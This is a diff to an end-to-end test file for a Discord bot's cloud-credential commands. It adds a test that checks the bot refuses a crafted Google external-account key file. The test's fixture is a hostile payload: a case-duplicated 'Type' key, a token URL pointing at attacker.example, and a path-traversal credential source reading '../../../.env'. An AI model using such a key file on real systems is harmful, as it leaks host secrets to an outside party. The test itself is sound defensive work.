@@ -1,7 +1,7 @@
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { stopAllBots } from '../harness/bot-process.js';
 import { GCP_KEY } from '../support/credentials.js';
-import { GUILD, INTRUDER, OWNER, createFakeDiscord, installation, openSession, runCommand, startInstallation, textOf } from '../support/e2e.js';
+import { GOOD_INIT, GUILD, INTRUDER, OWNER, createFakeDiscord, installation, openSession, runCommand, startInstallation, textOf } from '../support/e2e.js';
 
 const fake = createFakeDiscord();
 beforeAll(() => fake.start());
@@ -40,6 +40,21 @@ describe('/cloud-upload-credentials and /cloud-status', () => {
     const reply = await uploadCredentials(JSON.stringify({ AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', SecretAccessKey: 'TOP-SECRET' }));
     expect(textOf(reply)).toContain('These look like AWS credentials, but this session is for Google Cloud.');
     expect(textOf(reply)).not.toContain('TOP-SECRET');
+  });
+
+  it('refuses a key file crafted to make Google read a host file, on every path credentials come in', async () => {
+    await startInstallation(fake, installation());
+    const crafted = JSON.stringify({
+      ...GCP_KEY, Type: 'external_account', audience: 'x', subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
+      token_url: 'https://attacker.example/sts', credential_source: { file: '../../../.env' },
+    });
+    const init = await runCommand(fake, 'cloud-init', { ...GOOD_INIT, service_account_json: crafted });
+    expect(textOf(init)).toMatch(/Google Cloud credentials are not usable: `Type` repeats a key in another letter case/);
+    await openSession(fake);
+    const upload = textOf(await uploadCredentials(crafted));
+    expect(upload).toMatch(/not usable: `Type` repeats a key/);
+    expect(upload).not.toMatch(/attacker|\.env|TOP-SECRET/);
+    expect(textOf(await runCommand(fake, 'cloud-status'))).toMatch(/Credentials\n— none/);
   });
 
   it('keeps uploaded credentials across a crash and recovery', async () => {
